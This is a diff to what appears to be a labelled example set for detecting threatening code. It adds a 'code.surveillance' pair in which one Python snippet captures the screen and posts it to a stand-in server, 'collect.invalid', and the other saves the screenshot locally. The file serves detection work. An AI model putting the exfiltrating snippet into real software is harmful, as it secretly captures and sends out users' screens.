@@ -116,6 +116,16 @@ export const codeThreats: PackExamples = {
       "document.querySelector('input').addEventListener('keydown', (event) => {\n  if (event.key === 'Enter') event.target.form.submit()\n})",
     ),
   ),
+  'code.surveillance': pair(
+    py(
+      'A picture of the screen is sent to a server.',
+      "import mss, requests\n\npicture = mss.mss().shot()\nrequests.post('https://collect.invalid/', data=picture)",
+    ),
+    py(
+      'A picture of the screen is kept in a file.',
+      "from PIL import ImageGrab\n\nImageGrab.grab().save('screen.png')",
+    ),
+  ),
   'code.clipboard': pair(
     js(
       'What is in the clipboard is sent to a server.',
